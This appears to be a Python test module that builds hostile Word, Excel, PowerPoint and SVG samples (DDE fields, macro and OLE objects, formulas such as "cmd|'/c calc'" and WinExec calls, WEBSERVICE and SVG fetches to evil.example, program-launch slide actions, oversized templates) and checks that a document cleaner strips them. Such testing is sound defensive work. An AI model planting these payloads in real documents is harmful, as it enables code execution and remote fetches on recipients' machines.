"""Active content under another name, type or relationship, and values that are no data."""

from __future__ import annotations

from collections.abc import Iterator
from uuid import UUID

from tests.fuzz.bases import slim
from tests.support.hostile.case import Case
from tests.support.hostile.zips import (
    RELS,
    in_body,
    lazily,
    plain_docx,
    replaced,
    with_blob,
    with_relationship,
    zipped,
)
from tests.support.packages import docx_bytes, pptx_bytes
from tests.support.workbooks import workbook_bytes

_R = f'xmlns:r="{RELS}"'
_V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_EVIL = "evil.example"
_MAIN = "word/document.xml"
_SLIDE = "ppt/slides/slide1.xml"
_OLE = "application/vnd.openxmlformats-officedocument.oleObject"
_BOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_MS = "http://schemas.microsoft.com/office"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_OBJECT = (
    f'<w:p><w:r><w:object><v:shape {_V} id="o1" style="width:9pt;height:9pt"/>'
    f'<o:OLEObject {_V} Type="Embed" ProgID="x" ShapeID="o1" DrawAspect="Icon" ObjectID="_1" '
    f'{_R} r:id="rIdEvil"/></w:object></w:r></w:p>'
)
_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing" distT="0" distB="0" distL="0" distR="0"><wp:extent cx="90000" '
    'cy="90000"/><wp:docPr id="7" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
    'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
    'picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip '
    f'{_R} r:embed="rIdEvil">{{}}</a:blip><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="90000" cy="90000"/></a:xfrm><a:prstGeom '
    'prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
)


def cases() -> Iterator[Case]:
    yield from _parts()
    yield from _elements()
    yield from _objects()
    yield from _workbooks()
    yield from _documents()
    yield from _vectors()
    yield from _slides()
    yield from _nowhere()
    yield from _values()


def _parts() -> Iterator[Case]:
    """Known by their roots or types alone: the relationship to them says nothing."""
    keys = f'<wne:tcg xmlns:wne="{_MS}/word/2006/wordml"/>'
    panes = f'xmlns="{_MS}/webextensions'
    for name, path, kind, text, says in (
        ("toolbar", "customUI/a.xml", "application/xml",
         f'<customUI xmlns="{_MS}/2006/01/customui" onLoad="Evil"/>', "toolbars"),
        ("toolbar-reference", "word/a.xml", "application/xml",
         f'<customUI xmlns="{_MS}/2009/07/&#99;ustomui" onLoad="Evil"/>', "toolbars"),
        ("control", "word/a.xml", "application/xml",
         f'<ax:ocx xmlns:ax="{_MS}/2006/activeX" ax:classid="Evil"/>', "control"),
        ("keys", "word/a.xml", "application/xml", keys, "keys of macros"),
        ("keys-by-type", "word/a.xml", "application/vnd.ms-word.keyMapCustomizations+xml", "<a/>",
         "keys of macros"),
        ("macro-data", "word/a.xml", "application/xml",
         f'<wne:vbaSuppData xmlns:wne="{_MS}/word/2006/wordml"/>', "macros"),
        ("pane", "word/a.xml", "application/xml", f'<taskpanes {panes}/taskpanes/2010/11"/>',
         "add-in"),
        ("add-in", "word/a.xml", "application/xml",
         f'<webextension {panes}/webextension/2010/11"/>', "add-in"),
        ("script", "word/a.xml", "text/xml", "<job><script>Evil</script></job>", "program"),
        ("page", "word/a.htm", "text/html", "<html>Evil</html>", "piece of another"),
        ("script-type", "word/a.js", "application/javascript", "Evil", "program"),
    ):  # fmt: skip
        yield Case(f"disguised-part-{name}", "9", _part(path, kind, text.encode(), "nothing"),
                   False, says, ("Evil",))  # fmt: skip
    header = (
        '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r>'
        '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd x</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )
    for name, kind in (("upper", f"{_WORD}.HEADER+XML"), ("parameter", f"{_WORD}.header+xml;a=b")):
        made = _part("word/header9.bin", kind, header.encode(), "header")
        yield Case(f"disguised-header-{name}", "10", made, False, "last text", ("DDE cmd",))
    made = with_blob(plain_docx(), _MAIN, b'<?xml version="1.0"?><x/>')
    yield Case("disguised-root", "5", made, says="neither a document nor a deck")
    data = '<?xml version="1.0"?><job xmlns=""><title>kept</title></job>'
    made = _part("customXml/item1.xml", "application/xml", data.encode(), "customXml")
    yield Case("disguised-not-data", "9", made, False, "^(?!.*dropped)")


def _elements() -> Iterator[Case]:
    for kind in ("image", "nothing", "AFchunk"):
        made = _part("word/a.docx", f"{_WORD}.document", docx_bytes("a"), kind,
                     f'<w:altChunk {_R} r:id="rIdEvil"/>')  # fmt: skip
        yield Case(f"disguised-chunk-{kind}", "9", made, False, "piece of another")
        made = _part("word/a.docx", f"{_WORD}.document", docx_bytes("a"), kind,
                     f'<w:p><w:subDoc {_R} r:id="rIdEvil"/></w:p>')  # fmt: skip
        yield Case(f"disguised-sub-document-{kind}", "9", made, False, "sub-document|piece of")
    video = (
        '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15='
        f'"{_MS}/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://{_EVIL}/'
        '&quot;&gt;" h="9" w="9"/></a:ext></a:extLst>'
    )
    made = _part("word/media/a.png", "image/png", b"\x89PNG\r\n\x1a\n", "image",
                 _PICTURE.format(video))  # fmt: skip
    yield Case("disguised-web-video", "9", made, False, "web page", (_EVIL, "embeddedHtml"))
    library = (
        '<sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
        f'<sl:schema sl:uri="urn:x" sl:manifestLocation="http://{_EVIL}/"/></sl:schemaLibrary>'
    )
    made = replaced(plain_docx(), "word/settings.xml", "</w:settings>", library + "</w:settings>")
    yield Case("disguised-library", "9", made, False, "library of schemas", (_EVIL,))
    style = f"width:9pt;behavior:url(http://{_EVIL}/x.htc);height:9pt"
    made = in_body(f'<w:p><w:r><w:pict><v:shape {_V} style="{style}"/></w:pict></w:r></w:p>')
    yield Case("disguised-style", "9", made, False, "style", (_EVIL,))
    made = in_body(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{_EVIL}"/>')
    yield Case("disguised-inclusion", "9", made, False, "inclusion", (_EVIL,))
    for number, code in enumerate(("<!-- a -->DDE cmd x", "D<!-- a -->DE cmd x", "D<?a?>DE cmd x",
                                   "<![CDATA[DDE]]> cmd x")):  # fmt: skip
        runs = "".join(
            f"<w:r>{inner}</w:r>"
            for inner in ('<w:fldChar w:fldCharType="begin"/>', f"<w:instrText>{code}</w:instrText>",
                          '<w:fldChar w:fldCharType="end"/>')
        )  # fmt: skip
        yield Case(f"disguised-code-{number}", "10", in_body(f"<w:p>{runs}</w:p>"), False,
                   "last text", (" cmd x",))  # fmt: skip
    made = replaced(plain_docx(), _MAIN, "{{ x }}", "{{<!-- a --> x<!-- b --> }}")
    yield Case("disguised-not-comment", "6", made, False, shows="before 1 after")


def _objects() -> Iterator[Case]:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
    for name, inside in (
        ("macros", "_VBA_PROJECT".encode("utf-16-le")),
        ("equation-stream", "Equation Native".encode("utf-16-le")),
        ("link", "\x03LinkInfo".encode("utf-16-le")),
        ("address", UUID("79eac9e0-baf9-11ce-8c82-00aa004ba90b").bytes_le),
        ("flash", UUID("d27cdb6e-ae6d-11cf-96b8-444553540000").bytes_le),
        ("browser", UUID("8856f961-340a-11d0-a96b-00c04fd705a2").bytes_le),
        ("shell", UUID("72c24dd5-d70a-438b-8a42-98424b88afb8").bytes_le),
        ("old-macro-sheet", "Workbook\0".encode("utf-16-le") + bytes(40)
         + b"\x85\0\x0e\0\0\0\0\0\0\x01\x06\0Macro1"),
    ):  # fmt: skip
        made = _part("word/embeddings/e.bin", _OLE, head + inside, "oleObject", _OBJECT)
        yield Case(f"disguised-object-{name}", "9", made, False, "start any program")
    made = _part("word/media/a.png", "image/png", head + "_VBA_PROJECT".encode("utf-16-le"),
                 "image")  # fmt: skip
    yield Case("disguised-object-as-picture", "9", made, False, "start any program")
    for name, blob, says in (
        ("elf", b"\x7fELF" + bytes(60), "program"), ("shortcut", bytes.fromhex("4c00000001140200")
         + bytes(60), "program"), ("script", b"#!/bin/sh\nEvil", "program"),
        ("page", b" \r\n<HTML>Evil</HTML>", "program"), ("help", b"ITSF" + bytes(60), "program"),
        ("rich-text", b"{\\rtf1{\\object Evil}}", "program"), ("batch", b"@ECHO Evil", "program"),
        ("unknown", b"anything Evil", "no object"), ("empty-zip", b"PK\5\6" + bytes(18), "no object"),
        ("jar", zipped({"META-INF/MANIFEST.MF": b"Evil"}), "no known kind"),
    ):  # fmt: skip
        made = _part("word/embeddings/e.bin", _OLE, blob, "oleObject", _OBJECT)
        yield Case(f"disguised-file-{name}", "9", made, False, says, ("Evil",))
    made = _part("word/embeddings/e.bin", _OLE, head + b"drawing", "oleObject", _OBJECT)
    yield Case("disguised-not-object", "9", made, False, "^(?!.*dropped)")


def _workbooks() -> Iterator[Case]:
    book = workbook_bytes([["a", 1]])
    sheet = "xl/worksheets/sheet1.xml"
    rels = "xl/_rels/workbook.xml.rels"
    macro = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    link = (
        f'<q-1:externalLink xmlns:q-1="{_SHEET}"><q-1:ddeLink ddeService="a"/></q-1:externalLink>'
    )
    lists = (
        f'<connections xmlns="{_SHEET}"><connection id="1"><webPr url="http://{_EVIL}/"/>'
        "</connection></connections>"
    )
    for name, made, says in (
        ("macros", with_blob(book, "xl/a.bin", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")),
         "start any program"),
        ("macro-sheet", with_blob(book, "xl/a.xml", macro.encode()), "running program|runs something"),
        ("macro-sheet-link", replaced(book, rels, "</Relationships>",
         '<Relationship Id="a" Type="a/xlMacrosheet" Target="a.xml"/></Relationships>'),
         "runs something"),
        ("dde", with_blob(book, "xl/a.xml", link.encode()), "running program"),
        ("dde-utf16", with_blob(book, "xl/a.xml", link.encode("utf-16")), "running program"),
        ("connections", with_blob(book, "xl/a.xml", lists.encode()), "running program"),
        ("program", with_blob(book, "xl/media/a.bin", b"MZ" + bytes(60)), "it is a program"),
        ("object", with_blob(book, "xl/a.bin", b"\xd0\xcf\x11\xe0"
         + "\x01Ole10Native".encode("utf-16-le")), "start any program"),
    ):  # fmt: skip
        yield Case(f"disguised-book-{name}", "9", _book(made), False, says, (_EVIL,))
    for number, formula in enumerate((
        "cmd|'/c calc'!A1", f"WEBSERVICE(\"http://{_EVIL}/\")", f'_xlfn.IMAGE("http://{_EVIL}/a")',
        'RTD("a",,"b")', 'CALL("kernel32","WinExec","JCJ","calc",0)', f"'\\\\{_EVIL}\\[a.xlsx]S'!A1",
        f'HYPERLINK("file://{_EVIL}/","a")', "WEB<!-- a -->SERVICE(A1)",
        "<![CDATA[WEBSERVICE(A1)]]>",
    )):  # fmt: skip
        made = replaced(book, sheet, "<sheetData>", f'<sheetData><row r="9"><c r="A9"><f>{formula}</f>'
                        "<v>0</v></c></row>")  # fmt: skip
        yield Case(f"disguised-formula-{number}", "20", _book(made), False, "running program")
    for number, formula in enumerate((
        "SUM('A|B'!A1:A3)&amp;\"a|b\"", 'IF(A1="IMAGE(",1,2)', 'HYPERLINK("https://a.example","a")',
        "IMAGES(1)",
    )):  # fmt: skip
        made = replaced(book, sheet, "<sheetData>", f'<sheetData><row r="9"><c r="A9"><f>{formula}</f>'
                        "<v>0</v></c></row>")  # fmt: skip
        yield Case(f"disguised-not-formula-{number}", "20", _book(made), False, "^(?!.*dropped)")


def _documents() -> Iterator[Case]:
    """Documents inside of documents are cleaned as their hosts are."""
    chunk = in_body(f'<w:altChunk {_R} r:id="rIdEvil"/>')
    picture = with_relationship(
        in_body(_PICTURE.format("")), _MAIN, "image", f"http://{_EVIL}/a.png"
    )
    codes = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "E cmd x"))
    field = in_body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')  # fmt: skip
    deck = replaced(pptx_bytes(["a"], edit=slim), _SLIDE, '<p:cNvPr id="2" name="Title 1"/>',
                    f'<p:cNvPr id="2" name="Title 1"><a:hlinkClick {_R} r:id="" '
                    'action="ppaction://program"/></p:cNvPr>')  # fmt: skip
    for name, inner in (("chunk", chunk), ("picture", picture), ("field", field), ("deck", deck)):
        made = _part("word/embeddings/e.docx", f"{_WORD}.document", inner, "package", _OBJECT)
        yield Case(f"disguised-document-{name}", "9", made, False, "were cut")
        twice = _part("word/embeddings/e.docx", f"{_WORD}.document", made, "package", _OBJECT)
        yield Case(f"disguised-document-{name}-twice", "9", twice, False, "were cut")
    inner = docx_bytes("a")
    for _ in range(6):
        inner = _part("word/embeddings/e.docx", f"{_WORD}.document", inner, "package", _OBJECT)
    yield Case("disguised-document-deep", "4", inner, False, "were cut")
    made = _part("word/embeddings/e.docx", f"{_WORD}.document", docx_bytes("a"), "package", _OBJECT)
    yield Case("disguised-not-document", "9", made, False, "^(?!.*(?:dropped|cut))")


def _vectors() -> Iterator[Case]:
    for number, (inside, says) in enumerate((
        ("<script>Wicked</script>", "script"), (f'<image href="http://{_EVIL}/a"/>', "linked picture"),
        (f"<style>@import url(http://{_EVIL}/a)</style>", "fetches"),
        (f'<rect style="fill:url(http://{_EVIL}/#a)"/>', "fetches"), ('<g onclick="Wicked()"/>', "script"),
        (f'<use href="http://{_EVIL}/a.svg#b"/>', "linked picture"),
        ('<a href="javascript:Wicked"><rect/></a>', "link"), ("<foreignObject>Wicked</foreignObject>", "foreign"),
        ('<a><set attributeName="href" to="javascript:Wicked"/></a>', "script"),
        (f"<style>a{{}}<!-- a -->@import url(http://{_EVIL}/a)</style>", "fetches"),
    )):  # fmt: skip
        svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">{inside}</svg>'
        made = _part(
            "word/media/a.svg", "image/svg+xml", svg.encode(), "image", _PICTURE.format("")
        )
        yield Case(f"disguised-vector-{number}", "9", made, False, says, (_EVIL, "Wicked"))
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>a{fill:url(#b)}'
           '</style><image href="data:image/png;base64,aa"/><use href="#c"/></svg>')  # fmt: skip
    made = _part("word/media/a.svg", "image/svg+xml", svg.encode(), "image", _PICTURE.format(""))
    yield Case("disguised-not-vector", "9", made, False, "^(?!.*dropped)")


def _slides() -> Iterator[Case]:
    timing = (
        '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" nodeType="tmRoot"><p:childTnLst>'
        '<p:cmd type="{}" cmd="{}"><p:cBhvr><p:cTn id="2" dur="1"/><p:tgtEl><p:spTgt spid="2"/>'
        "</p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>"
    )
    deck = pptx_bytes(["Title {{ x }}", "text"], edit=slim)
    for number, (kind, command) in enumerate(
        (("VERB", "0"), ("evt", "javascript:a"), ("call", "a()"))
    ):
        made = replaced(deck, _SLIDE, "</p:sld>", timing.format(kind, command))
        yield Case(f"disguised-command-{number}", "11", made, False, "unknown command", ("p:cmd",),
                   ending="pptx")  # fmt: skip


def _nowhere() -> Iterator[Case]:
    for name, body in (
        ("picture", _PICTURE.format("")), ("object", _OBJECT),
        ("link", f'<w:p><w:hyperlink {_R} r:id="rIdEvil"><w:r><w:t>go</w:t></w:r></w:hyperlink></w:p>'),
    ):  # fmt: skip
        yield Case(f"nowhere-{name}", "8", in_body(body), False, "leads nowhere", ("rIdEvil",))
    section = f'<w:headerReference {_R} w:type="default" r:id="rIdEvil"/>'
    made = in_body(f"<w:p><w:pPr><w:sectPr>{section}</w:sectPr></w:pPr></w:p>")
    yield Case("nowhere-header", "8", made, False, "leads nowhere", ("rIdEvil",))


def _values() -> Iterator[Case]:
    """No function, iterator or undefined value becomes text."""
    rows = {"data.yaml": b"x: 1\nrows: [{a: 1}, {a: 2}]\n"}
    for number, tag in enumerate((
        "{{ chart|string }}", "{{ chart|upper }}", "{{ '%s' % chart }}", "{{ '{}'.format(chart) }}",
        "{{ [chart]|join }}", "{{ [[chart]]|string }}", "{{ {'a': chart}|string }}", "{{ x|bold ~ chart }}",
        "{{ chart|bold }}", "{{ 'a'.upper|string }}", "{{ (rows|map('string'))|string }}",
        "{{ cycler(1)|string }}", "{{ joiner|string }}", "{{ chart|pprint }}", "{{ chart|safe }}",
        "{{ [chart]|listing }}", "{{ footnote([chart]) }}", "{{ markdown(chart) }}", "{{ qr(chart) }}",
        "{{ table([[chart]]) }}", "{{ 'a'|link(chart) }}", "{{ [nothing]|string }}", "{{ x[chart] }}",
        "{{ rows|map(attribute='b')|list|string }}", "{{ ['a']|map('attr', 'upper')|map('string')|join }}",
        "{{ chart({'categories': [chart], 'series': [{'name': 'a', 'values': [1]}]}) }}",
        "{% macro m() %}a{% endmacro %}{{ m|string }}",
    )):  # fmt: skip
        yield Case(f"no-value-{number}", "14", lazily(docx_bytes, tag), data=rows, says="paragraph 1",
                   absent=("0x7", "function", "built-in", "Undefined"))  # fmt: skip
    for number, tag in enumerate((
        "{{ rows|string }}", "{{ '%s' % x }}", "{{ '{}'.format(x) }}", "{{ x|bold|italic }}",
        "{% macro f(g) %}{{ g('a') }}{% endmacro %}{% macro h(b) %}{{ b }}{% endmacro %}{{ f(h) }}",
        "{{ 'a'|link('') }}", "{{ rows|map(attribute='a')|map('string')|join('+') }}",
    )):  # fmt: skip
        yield Case(f"value-{number}", "14", lazily(docx_bytes, tag), False, data=rows)
    for ending, make in (
        ("docx", lazily(docx_bytes, _LONG)),
        ("pptx", lazily(pptx_bytes, ["a", _LONG])),
    ):
        yield Case(f"one-long-text-{ending}", "16", make, says="in one piece", ending=ending)
    deep = "{{ ([['a' * 1000] * 1000] * 1000)|tojson|length }}"
    yield Case("long-json", "16", lazily(docx_bytes, deep), says="value_characters|made_characters")


_LONG = "{% for i in range(100000) %}{{ 'a' * 1000 }}{% endfor %}"


def _book(blob: bytes) -> bytes:
    return _part("word/embeddings/e.xlsx", _BOOK, blob, "package", _OBJECT)


def _part(path: str, content_type: str, blob: bytes, relation: str, body: str = "") -> bytes:
    """Return the plain document with one more part that its main part points at."""
    made = with_blob(in_body(body) if body else plain_docx(), path, blob)
    listed = f'<Override PartName="/{path}" ContentType="{content_type}"/></Types>'
    made = replaced(made, "[Content_Types].xml", "</Types>", listed)
    return with_relationship(made, _MAIN, relation, f"/{path}", mode="")
